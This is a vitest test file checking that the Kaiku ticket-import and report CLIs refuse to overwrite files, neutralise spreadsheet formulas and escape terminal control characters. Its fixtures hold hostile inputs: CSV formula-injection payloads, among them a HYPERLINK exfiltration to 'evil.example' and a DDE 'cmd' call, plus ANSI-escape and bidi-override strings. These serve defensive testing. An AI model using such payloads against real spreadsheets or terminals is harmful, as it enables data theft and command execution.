/**
 * The CLIs' files and terminal output are hostile-input safe: no file is overwritten without --force (and the input
 * never, even with it), the per-row report cannot carry a formula into Excel, and text that came from a file or a
 * server reaches the terminal without control characters. Run in-process against the real sandbox.
 */
import { mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox } from '../../sandbox/src/start-sandbox.js';
import type { Sandbox } from '../../sandbox/src/start-sandbox.js';
import type { CliIo } from './start-cli.js';
import { runImport } from './run-import.js';
import { runReport } from './run-report.js';
import { terminalText } from './start-cli.js';

const dir = mkdtempSync(join(tmpdir(), 'kaiku-cli-files-'));
const HEADER = 'Kortin tunnus;Lippu aikuiselle;Lippu lapselle;Esityksen nimi;Päivämäärä';
const GOOD = 'A045198723;1;2;Taikuri Matti;3.2.2020';

function io(env: Record<string, string> = {}): CliIo & { out: () => string; err: () => string } {
  let out = '';
  let err = '';
  return {
    stdout: { write: (t: string) => (out += t) },
    stderr: { write: (t: string) => (err += t) },
    env: { LANG: 'C', ...env },
    out: () => out,
    err: () => err,
  };
}

function file(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

let sandbox: Sandbox;
beforeAll(async () => {
  sandbox = await startSandbox({ memory: true, port: 0, token: 'test-token', logger: () => {} });
});
afterAll(() => sandbox.close());

describe('kaiku-import --rows', () => {
  it('refuses to write the per-row report over its own input, even with --force, and leaves the input whole', async () => {
    const input = file('same.csv', `${HEADER}\n${GOOD}\n`);
    for (const extra of [[], ['--force']]) {
      const run = io();
      const code = await runImport([input, '--venue', 'v', '--dry-run', '--rows', input, ...extra], run);
      expect(code).toBe(2);
      expect(run.err()).toContain('output-is-input');
      expect(readFileSync(input, 'utf8')).toBe(`${HEADER}\n${GOOD}\n`);
    }
    // Through a symbolic link too.
    const link = join(dir, 'link.csv');
    symlinkSync(input, link);
    const run = io();
    expect(await runImport([input, '--venue', 'v', '--dry-run', '--rows', link, '--force'], run)).toBe(2);
    expect(readFileSync(input, 'utf8')).toBe(`${HEADER}\n${GOOD}\n`);
  });

  it('refuses to overwrite an existing file without --force, in the chosen language', async () => {
    const input = file('in.csv', `${HEADER}\n${GOOD}\n`);
    const rows = file('rows-existing.csv', 'keep me');
    const fi = io();
    expect(await runImport([input, '--venue', 'v', '--dry-run', '--rows', rows, '--lang', 'fi'], fi)).toBe(3);
    expect(fi.err()).toContain('output-exists');
    expect(fi.err()).toContain('on jo olemassa');
    expect(fi.err()).toContain('--force');
    expect(readFileSync(rows, 'utf8')).toBe('keep me');
    const sv = io();
    expect(await runImport([input, '--venue', 'v', '--dry-run', '--rows', rows, '--lang', 'sv'], sv)).toBe(3);
    expect(sv.err()).toContain('finns redan');
    const forced = io();
    expect(await runImport([input, '--venue', 'v', '--dry-run', '--rows', rows, '--force'], forced)).toBe(0);
    expect(readFileSync(rows, 'utf8')).toContain('A045198723');
  });

  it('writes no cell a spreadsheet would run as a formula', async () => {
    const input = file(
      'formula.csv',
      [
        HEADER,
        '=HYPERLINK("http://evil.example/?"&A1;1;0;Show;3.2.2020',
        "@SUM(1+1)*cmd|' /C calc'!A0;1;0;Show;3.2.2020",
        'A045198723;+1+cmd;0;Show;3.2.2020',
        'A045198723;1;-2+3;Show;3.2.2020',
        `A045198723;1;0;Show;=1+1`,
      ].join('\n'),
    );
    const rows = join(dir, 'formula-rows.csv');
    const run = io();
    await runImport([input, '--venue', 'v', '--dry-run', '--rows', rows], run);
    const lines = readFileSync(rows, 'utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .slice(1);
    expect(lines.length).toBeGreaterThanOrEqual(5);
    for (const line of lines) {
      // Cells split on ; outside quotes; a quoted cell's first character inside the quotes counts.
      const cells = line.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, ''));
      for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('terminal output', () => {
  it('shows control characters and bidi overrides from a file as visible escapes, never raw', async () => {
    const input = file(
      'control.csv',
      [
        HEADER,
        'A045198723;1;\u001b]0;pwned\u0007\u001b[2J;Show;3.2.2020',
        'X\u009b31m\u202eZ;1;0;Show;3.2.2020',
      ].join('\n'),
    );
    for (const extra of [[], ['--json'], ['--show-card-ids']]) {
      const run = io();
      await runImport([input, '--venue', 'v', '--dry-run', ...extra], run);
      const printed = run.out() + run.err();
      expect(printed).not.toMatch(
        // eslint-disable-next-line no-control-regex -- finding control characters is the point
        /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
      );
    }
  });

  it('escapes what a hostile file name would print', async () => {
    const input = file('name\u001b[31m.csv', `${HEADER}\n${GOOD}\n`);
    const run = io();
    expect(await runImport([input, '--venue', 'v', '--dry-run'], run)).toBe(0);
    expect(run.out()).toContain('name\\x1B[31m.csv');
    expect(run.out()).not.toContain('\u001b');
  });

  it('terminalText keeps line breaks and printable text, escapes the rest', () => {
    expect(terminalText('Taikuri Matti – ÅÄÖ åäö €\n')).toBe('Taikuri Matti – ÅÄÖ åäö €\n');
    expect(terminalText('a\u001b[2Jb\rc\td\u0085e\u202ef\u0000')).toBe(
      'a\\x1B[2Jb\\x0Dc\\x09d\\x85e\\u202Ef\\x00',
    );
  });
});

describe('kaiku-report -o', () => {
  const args = (out: string) => [
    '--venue',
    'teatteri-hilla',
    '--from',
    '2020-02-01',
    '--to',
    '2020-02-29',
    '-o',
    out,
    '--base-url',
    sandbox.url,
  ];

  it('refuses to overwrite an existing file without --force, and overwrites with it', async () => {
    const out = file('existing-report.csv', 'last month');
    const en = io({ KAIKU_TOKEN: 'test-token' });
    expect(await runReport(args(out), en)).toBe(3);
    expect(en.err()).toContain('output-exists');
    expect(en.err()).toContain('already exists');
    expect(readFileSync(out, 'utf8')).toBe('last month');
    const forced = io({ KAIKU_TOKEN: 'test-token' });
    expect(await runReport([...args(out), '--force'], forced)).toBe(0);
    expect(readFileSync(out, 'utf8')).not.toBe('last month');
  });

  it('refuses an output path with control characters', async () => {
    const run = io({ KAIKU_TOKEN: 'test-token' });
    expect(await runReport(args(join(dir, 'r\u001b[2J.csv')), run)).toBe(2);
    expect(run.err()).toContain('output-path-unsafe');
    expect(run.err()).not.toContain('\u001b');
  });
});
